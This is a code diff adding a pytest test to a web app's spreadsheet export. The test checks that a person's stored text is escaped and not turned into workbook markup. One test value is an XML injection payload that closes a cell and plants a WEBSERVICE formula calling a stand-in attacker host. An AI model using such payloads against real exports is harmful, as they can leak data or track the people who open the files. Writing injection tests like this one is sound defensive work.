@@ -189,6 +189,24 @@ def test_a_workbook_has_numbers_times_and_dates(each_world: World) -> None:
     assert xml.find(".//pane").get("state") == "frozen"  # type: ignore[union-attr]
 
 
+@pytest.mark.parametrize(
+    "text",
+    [
+        '<r><t>x</t></r></is></c><c r="Z2"><f>WEBSERVICE("http://evil.example/")</f><v>0</v></c><r></r>',
+        "<r><b></r>",
+        "<r></r>",
+    ],
+)
+def test_a_workbook_has_no_markup_of_a_persons_text(world: World, text: str) -> None:
+    anna = world.session("anna")
+    store_people(world, {"name": "Mallory", "position": text})
+
+    response = world.browser.get("/team.xlsx?q=mallory", headers=anna)
+
+    assert cells(response.data)[1][1:3] == ["Mallory", text]
+    assert sheet(response.data).find(".//f") is None
+
+
 def test_a_workbook_of_an_arabic_reader_begins_at_the_right(world: World) -> None:
     world.portal().people["anna"].lang = "ar"
 
